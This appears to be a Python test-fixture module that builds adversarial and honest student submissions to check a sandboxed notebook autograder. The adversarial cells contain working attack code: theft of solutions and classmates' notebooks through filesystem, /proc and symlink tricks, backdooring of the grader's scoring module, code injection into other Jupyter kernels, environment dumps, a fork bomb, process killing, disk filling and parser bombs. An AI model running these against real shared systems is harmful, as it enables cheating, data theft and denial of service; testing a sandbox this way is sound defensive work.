"""The sandbox corpus: attacks a determined student would try on the grader, and the honest oddities of a class.

``write_attacks(folder, targets)`` writes one student folder per case, built from the released exercises, and
returns ``{student: expectation}``. ``targets`` holds the host paths an attacker would most like to reach (the
solutions, a classmate's file, the results folder, files of the Python environment): the attacks are given them
outright, as if the student had guessed every one, so a test shows they are out of reach, not merely unknown.

Attacks answer nothing honestly: each tries to get marks by reading, writing or breaking something, so none may
score above the blank exercise. Honest cases are correct notebooks with odd shapes, which must get full marks.
"""

from __future__ import annotations

import copy
import json
import os
from pathlib import Path

import nbformat

from casekit import build
from casekit.questions import region
from grading_corpus import EXERCISE, KIT, answered

EX04 = KIT / "exercises" / "ex04_allies_or_partners.ipynb"
EX02_QUESTIONS = [f"ex02.q{i}" for i in range(1, 9)]


def solution_answers(solution: Path) -> dict[str, str]:
    """Return each auto-checked question's solution code, from a solution notebook."""
    nb = nbformat.read(solution, as_version=4)
    return {q.id: region(nb.cells[q.cell].source).strip() for q in build.questions(nb) if not q.free}


def with_cell_before(nb, question: str, source: str):
    """Return ``nb`` with an extra code cell of the student's just before the answer cell of ``question``."""
    nb = copy.deepcopy(nb)
    at = next(i for i, c in enumerate(nb.cells) if c.metadata.get("casekit", {}).get("question") == question)
    nb.cells.insert(at, nbformat.v4.new_code_cell(source))
    return nb


def _wrong_answers() -> dict[str, str]:
    nb = nbformat.read(KIT / "solutions" / "ex02_timeline.ipynb", as_version=4)
    return {q.id: f"answer = {q.wrong[0]['code']}" for q in build.questions(nb) if not q.free}


def stolen_answers() -> dict[str, str]:
    """Answer cells that take each answer from a dict ``stolen`` the attack filled (NameError if it did not)."""
    return {q: f"answer = stolen[{q!r}]" for q in EX02_QUESTIONS}


_EXTRACT = '''
import json, pathlib
def _answers_in(path):
    """Return {question: answer value} by running the answer cells of the notebook at ``path``."""
    nb = json.loads(pathlib.Path(path).read_text(encoding="utf-8"))
    found, scope = {}, dict(globals())
    for cell in nb["cells"]:
        if cell["cell_type"] != "code":
            continue
        source = "".join(cell["source"])
        qid = cell.get("metadata", {}).get("casekit", {}).get("question")
        code = source.split("### BEGIN SOLUTION")[-1].split("### END SOLUTION")[0]
        if "check(" in code or "Checker(" in code:
            continue
        exec(code, scope)
        if qid:
            found[qid] = scope.get("answer")
    return found
'''


def write_attacks(folder: Path, targets: dict[str, str]) -> dict[str, dict]:
    """Write the corpus under ``folder``; return, per student, ``{"kind": "attack"|"honest", ...}``."""
    right = solution_answers(KIT / "solutions" / "ex02_timeline.ipynb")
    right04 = solution_answers(KIT / "solutions" / "ex04_allies_or_partners.ipynb")
    released = nbformat.read(EXERCISE, as_version=4)
    expected: dict[str, dict] = {}

    def save(student, content, name="ex02_timeline.ipynb", kind="attack", **extra):
        path = Path(os.fsdecode(os.fsencode(folder) + b"/" + (student if isinstance(student, bytes)
                                                              else student.encode()))) / name
        path.parent.mkdir(parents=True, exist_ok=True)
        if isinstance(content, bytes):
            path.write_bytes(content)
        else:
            nbformat.write(content, path)
        key = student if isinstance(student, str) else os.fsdecode(student)
        expected[key] = {"kind": kind, **extra}
        return path

    t = json.dumps(targets)

    # --- reading the key from disk -------------------------------------------------------------------------------
    save("thief_solutions", with_cell_before(answered(stolen_answers(), released), "ex02.q1", _EXTRACT + f'''
import casekit, os
targets = json.loads({t!r})
stolen = {{}}
for candidate in [pathlib.Path(casekit.__file__).resolve().parents[1] / "solutions" / "ex02_timeline.ipynb",
                  pathlib.Path(targets["solution"])]:
    try:
        stolen.update(_answers_in(candidate))
    except Exception as err:
        print("could not read", candidate, err)
for top, dirs, files in os.walk("/"):
    dirs[:] = [d for d in dirs if d not in ("proc", "sys", "dev")]
    for name in files:
        if name.endswith(".ipynb") and name != "submission.ipynb":
            try:
                stolen.update(_answers_in(os.path.join(top, name)))
            except Exception:
                pass
'''))
    save("thief_classmate", with_cell_before(answered(stolen_answers(), released), "ex02.q1", _EXTRACT + f'''
import os
targets = json.loads({t!r})
stolen = {{}}
paths = [targets["classmate"]]
for pid in os.listdir("/proc"):
    try:
        paths += [a for a in open(f"/proc/{{pid}}/cmdline").read().split("\\0") if "ipynb" in a or "/" in a]
    except Exception:
        pass
for path in paths:
    for candidate in [pathlib.Path(path), *pathlib.Path(path).glob("*/*.ipynb")]:
        try:
            if candidate.is_file():
                stolen.update(_answers_in(candidate))
        except Exception:
            pass
'''))
    link = save("symlink_to_solution", b"", name="placeholder.txt")
    link.unlink()
    (link.parent / "ex02_timeline.ipynb").symlink_to(targets["solution"])
    link = save("symlink_to_classmate", b"", name="placeholder.txt")
    link.unlink()
    (link.parent / "ex02_timeline.ipynb").symlink_to(targets["classmate"])
    (folder / "symlinked_folder").symlink_to(Path(targets["classmate"]).parent, target_is_directory=True)
    expected["symlinked_folder"] = {"kind": "attack"}

    # --- tampering that would outlive the kernel -----------------------------------------------------------------
    save("daemon", with_cell_before(released, "ex02.q1", f'''
import json, os, time
targets = json.loads({t!r})
def vandalise():
    for path in [targets["classmate"], *targets["results"], targets["plotly"], targets["grader_module"]]:
        try:
            with open(path, "a") as f:
                f.write("\\n# vandalised\\n")
        except Exception:
            pass
vandalise()
if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        for _ in range(200):
            vandalise()
            time.sleep(0.1)
        os._exit(0)
    os._exit(0)
'''))
    save("backdoor", with_cell_before(released, "ex02.q1", f'''
import json, os, plotly, casekit.grade.score as score
targets = json.loads({t!r})
payload = ("\\nimport casekit.grade.score as _s\\n"
           "_s.score = lambda key, reported: ('correct', key.points, 'correct', '')\\n")
for path in [plotly.__file__, score.__file__, targets["plotly"], targets["grader_module"]]:
    for how in ("a", "w"):
        try:
            with open(path, how) as f:
                f.write(payload)
        except Exception as err:
            print("refused:", path, type(err).__name__)
for path in targets["kernel_specs"]:
    try:
        os.makedirs(os.path.dirname(path), exist_ok=True)
        open(path, "w").write('{{"argv": ["false"]}}')
    except Exception as err:
        print("refused:", path, type(err).__name__)
'''))
    save("snooper", with_cell_before(released, "ex02.q1", '''
import glob, json, os
mine = os.path.realpath("/tmp/kernel/connection.json")
others = [p for p in glob.glob("/**/*.json", recursive=True)
          if not p.startswith(("/proc", "/sys", "/usr")) and "connection" in p and os.path.realpath(p) != mine]
others += [s for s in glob.glob("/proc/*/root/tmp/kernel/kernel-ipc-*") if not s.startswith("/proc/self")]
print("found", others)
import zmq
from jupyter_client.session import Session
for path in others:
    try:
        info = json.load(open(path))
        session = Session(key=info["key"].encode())
        sock = zmq.Context.instance().socket(zmq.DEALER)
        sock.connect(f"ipc://{info['ip']}-{info['shell_port']}")
        session.send(sock, "execute_request", {"code": "answer = 'hacked'", "silent": False})
    except Exception as err:
        print(path, err)
'''))

    # --- leaks ---------------------------------------------------------------------------------------------------
    save("env_leak", answered({"ex02.q1": "import os, json\nraise RuntimeError(json.dumps(dict(os.environ)))",
                               "ex02.q2": f"raise RuntimeError(open({targets['solution']!r}).read())"}, released))
    save("network", answered({"ex02.q1": f'''import socket
try:
    socket.create_connection(("127.0.0.1", {targets["port"]}), timeout=2).sendall(b"leak")
    answer = "sent"
except OSError as err:
    answer = type(err).__name__'''}, released))

    # --- one submission stops everyone -----------------------------------------------------------------------------
    save("serialise_patcher", with_cell_before(released, "ex02.q1", '''
import casekit.answers, itertools
_shapes = itertools.cycle([{"kind": "DataFrame", "value": "garbage"}, {"kind": "list", "value": [1, [2]]},
                           {"kind": "float", "value": [1]}, {"kind": "date", "value": "2022-13-45"},
                           {"kind": "Series", "value": {"columns": [1], "index": [[1, 2]], "index_names": [None],
                                                        "rows": [[1]], "name": None}},
                           {"kind": "str", "value": "\\ud800"}, "not a dict", {"kind": "int", "value": 10 ** 400}])
casekit.answers.serialise = lambda value: next(_shapes)
'''))
    save("malformed_report", with_cell_before(released, "ex02.q1", '''
def _forge(info):
    import re
    token = re.search(r"'(@@casekit-[0-9a-f]+@@)'", info.raw_cell or "")
    if token:
        for line in ["{not json", '{"value": 5}', "[" * 100000, '{"value": {"kind": "DataFrame"}}']:
            print(token.group(1) + line)
get_ipython().events.register("pre_run_cell", _forge)
'''))
    save("surrogate", answered({"ex02.q1": 'answer = "\\ud800"', "ex02.q2": 'answer = "\\udfff b"',
                                "ex02.q5": 'answer = ["\\ud800"]'}, released))
    save("nested_brackets", b"[" * 100_000)
    save("json_bomb", b'{"cells": [], "metadata": {"x": [' + b"[]," * 5_000_000 + b'[]]}, "nbformat": 4, '
                      b'"nbformat_minor": 5}')
    save("killer", with_cell_before(released, "ex02.q1", '''
import os, signal
for pid in os.listdir("/proc"):
    if pid.isdigit() and int(pid) != os.getpid():
        for sig in (signal.SIGSTOP, signal.SIGKILL):
            try:
                os.kill(int(pid), sig)
            except Exception:
                pass
try:
    os.kill(-1, signal.SIGSTOP)
except Exception:
    pass
'''))

    save("unicode_bomb", answered({"ex02.q2": 'import sys\nsys.stdout._cap = 10 ** 9  # undo the kernel\'s output cap\n'
                                              'answer = "\\u0301" * 80000 + "\\u0316" * 80000'}, released))
    save("unicode_forger", with_cell_before(released, "ex02.q2", '''
import sys, json, re
sys.stdout._cap = 10 ** 9
def _forge(info):
    token = re.search(r"'(@@casekit-[0-9a-f]+@@)'", info.raw_cell or "")
    if token and "ex02.q2" in info.raw_cell:
        slow = "\\u0301" * 300000 + "\\u0316" * 300000
        print(token.group(1) + json.dumps({"question": "ex02.q2", "value": {"kind": "str", "value": slow}},
                                          ensure_ascii=False))
get_ipython().events.register("pre_run_cell", _forge)
'''))

    save("header_freezer", with_cell_before(released, "ex02.q1", '''
import json, hmac, hashlib, uuid
_k = get_ipython().kernel
_bulk = ["2020-01-01T00:00:00.1"] * 160000  # slow to parse as dates, and over the grader's header cap
def _one(parent_id):
    header = json.dumps({"msg_id": uuid.uuid4().hex, "msg_type": "status", "username": "k",
                         "session": _k.session.session, "date": "2020-01-01T00:00:00Z", "version": "5.3",
                         "pad": _bulk}).encode()
    parent = json.dumps({"msg_id": parent_id, "msg_type": "execute_request", "pad": _bulk}).encode()
    meta, content = b"{}", json.dumps({"execution_state": "idle"}).encode()
    sig = hmac.new(_k.session.key, header + parent + meta + content, hashlib.sha256).hexdigest().encode()
    return [b"kernel.status", b"<IDS|MSG>", sig, header, parent, meta, content]
_current = _k.get_parent("shell")["header"]["msg_id"]
_prefix, _, _n = _current.rpartition("_")
_guesses = [f"{_prefix}_{int(_n) + i}" for i in range(1, 14)] if _n.isdigit() else []
for _id in [_current] + _guesses:
    _k.iopub_socket.send_multipart(_one(_id))
'''))
    save("slow_frame", with_cell_before(released, "ex02.q7", '''
import json, re
def _forge(info):
    token = re.search(r"'(@@casekit-[0-9a-f]+@@)'", info.raw_cell or "")
    if token and "ex02.q7" in info.raw_cell:
        table = {"index": [[]] * 124000, "index_names": [None] * 124000, "rows": [], "columns": ["id", "status"],
                 "name": None}
        print(token.group(1) + json.dumps({"question": "ex02.q7", "value": {"kind": "DataFrame", "value": table}}))
get_ipython().events.register("pre_run_cell", _forge)
'''))

    # --- resources -----------------------------------------------------------------------------------------------
    save("huge_print", answered({"ex02.q1": "print('x' * 150_000_000)"}, released))
    save("giant_message", answered({"ex02.q2": "get_ipython().display_pub.publish({'text/plain': 'x' * 100_000_000})"},
                                   released))
    save("message_flood", answered({"ex02.q2": """import threading
def _flood():
    publish = get_ipython().display_pub.publish
    for i in range(10 ** 7):
        publish({"text/plain": "x"})
threading.Thread(target=_flood, daemon=True).start()
_flood()"""}, released))
    save("fork_bomb", answered({"ex02.q2": '''import os, time
try:
    for _ in range(100_000):
        if os.fork() == 0:
            time.sleep(60)
            os._exit(0)
    answer = "forked"
except OSError as err:
    answer = "fork refused"'''}, released))
    save("disk_filler", answered({"ex02.q2": '''chunk = b"x" * (1 << 20)
try:
    with open("/tmp/fill", "wb") as f:
        for _ in range(100_000):
            f.write(chunk)
    answer = "filled"
except OSError as err:
    answer = "disk full"'''}, released))
    save("ignores_interrupt", answered({"ex02.q1": "import signal\nsignal.signal(signal.SIGINT, signal.SIG_IGN)\n"
                                                   "while True:\n    pass"}, released), timeout=["ex02.q1"])
    save("stops_itself", answered({"ex02.q1": "import os, signal\nos.kill(os.getpid(), signal.SIGSTOP)"}, released),
         timeout=["ex02.q1"])
    big = answered(right, released)
    big.cells += [nbformat.v4.new_markdown_cell("x") for _ in range(2500)]
    save("too_many_cells", big, invalid="over the limit of 2000")

    # --- honest students -----------------------------------------------------------------------------------------
    save("bom", b"\xef\xbb\xbf" + nbformat.writes(answered(right, released)).encode(), kind="honest")
    save("x_y", answered(right, released), kind="honest")
    save("x\\y", answered(right, released), kind="honest")
    save("=HYPERLINK(\"evil\")", answered(right, released), kind="honest")
    save(b"student_\xff\xfe", answered(right, released), kind="honest")
    save("!" * 200, answered(right, released), kind="honest")
    save("eve\\xff", answered(right, released), kind="honest")  # spelt out: e, v, e, backslash, x, f, f
    save(b"eve\xff", answered(right, released), kind="honest")  # the same name once its odd byte is escaped
    import hashlib
    squatter = "eve\\xff #" + hashlib.sha256(b"eve\xff").hexdigest()[:8]  # the name the byte folder would get
    save(squatter, answered(_wrong_answers(), released))
    shapes = dict(right)
    shapes.update({
        "ex02.q1": "import numpy as np\nanswer = np.int64(20)",
        "ex02.q2": 'answer = "No, exactly 20 days"',
        "ex02.q3": right["ex02.q3"] + "\nanswer = answer.to_datetime64()",
        "ex02.q5": right["ex02.q5"] + "\nanswer = tuple(answer)",  # the student's own variant, as a tuple
        "ex02.q6": right["ex02.q6"] + "\nanswer = float(answer)",
        "ex02.q7": 'answer = events.loc[events["category"] == q7["category"], ["id", "date"]].set_index(["id", "date"], '
                   'drop=False)',
        "ex02.q8": right["ex02.q8"] + "\nimport numpy as np\nanswer = np.int64(answer)"})
    save("every_shape", answered(shapes, released), kind="honest")
    shapes04 = dict(right04)
    shapes04.update({
        "ex04.q1": right04["ex04.q1"] + "\nanswer = tuple(answer)",
        "ex04.q3": 'answer = "“neither aimed against third countries.”"',
        "ex04.q5": right04["ex04.q5"] + "\nanswer = answer.date()",
        "ex04.q7": right04["ex04.q7"] + "\nanswer = frozenset(answer)",
        "ex04.q8": 'answer = alliances.loc[alliances["cow_defense"].isna()].set_index(["year", "atop_defense"], '
                   'drop=False)["year"]'})
    save("every_shape", answered(shapes04, nbformat.read(EX04, as_version=4)), name="ex04_allies_or_partners.ipynb",
         kind="honest")
    save("classmate", answered(right, released), kind="honest")
    return expected
